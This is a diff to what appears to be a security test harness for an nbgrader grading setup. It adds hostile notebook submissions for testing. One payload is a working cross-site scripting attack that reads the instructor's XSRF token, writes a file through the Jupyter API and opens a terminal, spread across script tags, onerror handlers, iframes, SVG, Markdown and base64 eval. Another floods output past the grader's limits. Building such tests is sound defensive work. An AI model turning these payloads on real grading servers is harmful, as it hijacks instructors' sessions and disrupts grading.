@@ -287,6 +287,71 @@ HOSTILE_KINDS = {
 #: the kernel and failed outside): they must gain nothing and leak nothing, but are not flagged.
 UNSEEN = ("hidden_test_spy", "read_the_key", "naive_by_hand", "other_model_handed_over")
 
+# ---------------------------------------------------------------- outputs for the instructor's browser
+
+#: What each script a submission displays tries, as the instructor who opens it: write a file
+#: through the server's API, open a terminal, show a dialog. ``WHERE`` names the output
+#: that ran (the file is ``pwned-WHERE.txt`` in the server's root).
+BROWSER_ATTACK_JS = (
+    'var x = ""; try { x = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || ""; } catch (e) {}'
+    'var h = {"Content-Type": "application/json", "X-XSRFToken": decodeURIComponent(x)};'
+    'fetch("/api/contents/pwned-WHERE.txt", {method: "PUT", headers: h,'
+    ' body: JSON.stringify({type: "file", format: "text", content: "{marker}"})});'
+    'fetch("/api/terminals", {method: "POST", headers: h});'
+    'alert("{marker} WHERE");'
+)
+
+SCRIPT_OUTPUTS = """\
+# Outputs meant to run in the instructor's browser (Formgrader, feedback), in every form an
+# output can take, and one written later into this cell's display with update_display.
+import base64
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+def _attack(where):
+    return {attack_js}.replace("WHERE", where)
+def _inline(where):  # for an attribute: no quotes inside
+    return "eval(atob('" + base64.b64encode(_attack(where).encode()).decode() + "'))"
+display(HTML("<table><tr><td>a table</td></tr></table><script>" + _attack("script") + "</script>"))
+display(HTML("<img src=x onerror=" + _inline("onerror") + ">"))
+display(HTML('<iframe srcdoc="<script>' + _inline("iframe") + '</script>"></iframe>'))
+display(Javascript(_attack("javascript")))
+display(SVG(
+    "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[" + _attack("svg") + "]]></script>"
+    "<rect width='9' height='9' onload=" + repr(_inline("svg-onload")) + "/></svg>"
+))
+display(Markdown("**bold** <img src=x onerror=" + _inline("markdown-output") + ">"))
+display(HTML('<a href="javascript:' + _inline("link") + '">a link</a><style>body {{ display: none }}</style>'))
+_handle = display(HTML("placeholder"), display_id=True)
+get_ipython().events.register(
+    "post_run_cell", lambda *args: _handle.update(HTML("<img src=x onerror=" + _inline("update-display") + ">"))
+)
+""".replace("{attack_js}", repr(BROWSER_ATTACK_JS)).replace("{{ display: none }}", "{display: none}")
+
+#: The flood prints 12 MiB at once, 4 MiB line by line, and 1.5 MiB in long lines after every
+#: later cell: far above the grader's limits (1 MiB per cell, 4 MiB per notebook), and under
+#: nbgrader's own limit of 1,000 lines per cell for the last two; small enough to grade in seconds.
+OUTPUT_FLOOD = """\
+import sys
+print("x" * (12 * 2**20))
+for _ in range(4096):
+    print("y" * 1023)
+get_ipython().events.register("post_run_cell", lambda *args: sys.stdout.write(("z" * 16383 + "\\n") * 96))
+"""
+
+#: kind -> (what it does, base, attacks), as in HOSTILE_KINDS; exercise 1 only (no training: cheap).
+OUTPUT_KINDS = {
+    "script_outputs": (
+        "displays script, event handlers, an iframe, JavaScript, SVG with script, and updates an earlier display",
+        "release",
+        {"1_gates": SCRIPT_OUTPUTS},
+    ),
+    "output_flood": (
+        "prints 16 MiB at once and line by line, then 1.5 MiB after every cell",
+        "release",
+        {"1_gates": OUTPUT_FLOOD},
+    ),
+}
+HOSTILE_KINDS.update(OUTPUT_KINDS)
+
 #: The forging kinds: under nbgrader's own in-kernel grading they score points they did not earn.
 FORGING = ("forge_checks", "forge_libraries", "lookalike_model", "silent_failures")
 
